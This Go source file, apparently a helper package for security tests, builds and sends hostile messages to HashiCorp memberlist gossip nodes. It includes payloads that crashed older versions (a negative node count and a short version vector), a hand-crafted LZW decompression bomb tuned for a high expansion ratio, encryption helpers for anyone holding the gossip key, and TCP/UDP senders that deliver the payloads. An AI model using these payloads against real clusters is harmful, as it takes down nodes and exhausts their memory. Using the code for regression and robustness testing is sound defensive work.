package gossipattack

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"math/bits"
	"net"
	"time"

	"github.com/hashicorp/go-msgpack/v2/codec"
	"github.com/hashicorp/memberlist"
)

// memberlist's message types (net.go).
const (
	pingMsg     = 0
	pushPullMsg = 6
	compressMsg = 9
	encryptMsg  = 10
	lzwAlgo     = 0
)

// The structures memberlist decodes, kept here by field name: memberlist
// encodes structs as msgpack maps keyed by field name, so these encode
// exactly as its own do.
type (
	pushPullHeader struct {
		Nodes        int
		UserStateLen int
		Join         bool
	}
	pushNodeState struct {
		Name        string
		Addr        []byte
		Port        uint16
		Meta        []byte
		Incarnation uint32
		State       int
		Vsn         []uint8
	}
	compress struct {
		Algo int
		Buf  []byte
	}
	ping struct {
		SeqNo uint32
		Node  string
	}
)

// message is one memberlist message: the type byte, then each value
// msgpack-encoded the way memberlist encodes it.
func message(msgType byte, values ...any) []byte {
	var buf bytes.Buffer
	buf.WriteByte(msgType)
	enc := codec.NewEncoder(&buf, &codec.MsgpackHandle{})
	for _, v := range values {
		if err := enc.Encode(v); err != nil {
			panic(fmt.Sprintf("gossipattack: encoding %T: %v", v, err)) // fixed shapes: cannot fail
		}
	}
	return buf.Bytes()
}

// NegativePushPull is a push/pull stream message whose header announces -1
// nodes: memberlist v0.5 allocated a slice of that length and panicked
// (makeslice: len out of range). 29 bytes.
func NegativePushPull() []byte {
	return message(pushPullMsg, pushPullHeader{Nodes: -1, Join: true})
}

// ShortVersionJoin is a push/pull stream message that joins one node whose
// protocol version vector has the given entries instead of six: memberlist
// v0.6 indexed past the end of a short vector and panicked.
func ShortVersionJoin(vsn ...uint8) []byte {
	return message(pushPullMsg,
		pushPullHeader{Nodes: 1, Join: true},
		pushNodeState{Name: "intruder", Addr: net.IPv4(127, 0, 0, 1).To4(), Port: 1, Incarnation: 1, Vsn: vsn})
}

// Bomb is a compressed memberlist message that expands to at least n zero
// bytes. Up to 128 MiB it fits in one datagram; over TCP any size goes.
func Bomb(n int) []byte {
	return message(compressMsg, compress{Algo: lzwAlgo, Buf: lzwZeros(n)})
}

// lzwZeros returns an LZW stream (LSB order, 8-bit literals, as
// memberlist's compress messages use) that decompresses to at least n zero
// bytes. It is written code by code rather than by compress/lzw: the
// encoder resets its table every 4,096 codes, which caps its ratio near
// 1,300:1; a stream that fills the table once with ever longer runs of
// zeros and then repeats the longest run reaches 2,500:1, so a 1 GiB bomb
// is 420 KB and takes no time to build.
func lzwZeros(n int) []byte {
	var out []byte
	var acc uint64
	var nbits uint
	put := func(code uint64, width uint) {
		acc |= code << nbits
		nbits += width
		for nbits >= 8 {
			out = append(out, byte(acc))
			acc >>= 8
			nbits -= 8
		}
	}
	const first, last, eof = 258, 4095, 257
	put(0, 9) // the literal 0; the decoder's next code is 258
	total := 1
	// Code c (258..4095) is "the previous string plus a zero": c-256 zeros,
	// written in as many bits as the decoder reads at that point.
	for c := uint64(first); c <= last; c++ {
		put(c, max(9, uint(bits.Len64(c))))
		total += int(c) - 256
	}
	// The table is full: the decoder stops adding codes and 4095 stays
	// 3,839 zeros, 12 bits each time.
	for total < n {
		put(last, 12)
		total += last - 256
	}
	put(eof, 12)
	if nbits > 0 {
		out = append(out, byte(acc))
	}
	return out
}

// Labeled prefixes msg with memberlist's cluster-label header: a node with
// a cluster label (the agent's --cluster) drops every message without it
// before decoding. The label is no secret; it only keeps clusters apart.
func Labeled(label string, msg []byte) []byte {
	out, err := memberlist.AddLabelHeaderToPacket(msg, label)
	if err != nil {
		panic(fmt.Sprintf("gossipattack: label %q: %v", label, err))
	}
	return out
}

// seal is memberlist's encryption (security.go, version 1): the version
// byte, a random 12-byte nonce, then AES-GCM over msg with data
// authenticated.
func seal(key, msg, data []byte) []byte {
	block, err := aes.NewCipher(key)
	if err != nil {
		panic(fmt.Sprintf("gossipattack: key of %d bytes: %v", len(key), err))
	}
	gcm, err := cipher.NewGCM(block)
	if err != nil {
		panic(err)
	}
	out := make([]byte, 1+gcm.NonceSize(), 1+gcm.NonceSize()+len(msg)+gcm.Overhead())
	out[0] = 1
	_, _ = rand.Read(out[1:])
	return gcm.Seal(out, out[1:], msg, data)
}

// EncryptedPacket is msg as a datagram of a cluster with gossip key key
// and cluster label label (may be empty): what anyone holding the key can
// send.
func EncryptedPacket(key []byte, label string, msg []byte) []byte {
	return Labeled(label, seal(key, msg, []byte(label)))
}

// EncryptedStream is msg as a stream message of a cluster with gossip key
// key and cluster label label (may be empty).
func EncryptedStream(key []byte, label string, msg []byte) []byte {
	var gcmOverhead = 1 + 12 + 16 // version, nonce, tag
	head := make([]byte, 5)
	head[0] = encryptMsg
	binary.BigEndian.PutUint32(head[1:], uint32(len(msg)+gcmOverhead))
	data := append(append([]byte{}, head...), label...)
	return Labeled(label, append(head, seal(key, msg, data)...))
}

// SendStream writes msg on a new TCP connection to addr and then waits
// until the node answers, closes the connection or timeout passes:
// memberlist handles one message per stream connection.
func SendStream(addr string, msg []byte, timeout time.Duration) error {
	conn, err := net.DialTimeout("tcp", addr, timeout)
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(timeout)); err != nil {
		return err
	}
	if _, err := conn.Write(msg); err != nil {
		return fmt.Errorf("writing %d bytes to %s: %w", len(msg), addr, err)
	}
	_, _ = conn.Read(make([]byte, 1<<16)) // the node answers or hangs up
	return nil
}

// Ping sends a memberlist ping for node over the datagram connection conn,
// with the cluster label (may be empty) and, when key is not nil,
// encrypted with it, and waits up to timeout for the answer. Nothing else
// writes to the connection's port, so any datagram is the ack. One
// goroutine handles a node's datagrams in order, so an ack means the node
// is past every datagram sent before the ping.
func Ping(conn net.Conn, key []byte, label, node string, timeout time.Duration) error {
	msg := message(pingMsg, ping{SeqNo: 1, Node: node})
	if key != nil {
		msg = EncryptedPacket(key, label, msg)
	} else {
		msg = Labeled(label, msg)
	}
	if err := conn.SetReadDeadline(time.Now().Add(timeout)); err != nil {
		return err
	}
	if _, err := conn.Write(msg); err != nil {
		return err
	}
	if _, err := conn.Read(make([]byte, 1<<16)); err != nil {
		return fmt.Errorf("no ack from %s to a ping: %w", node, err)
	}
	return nil
}
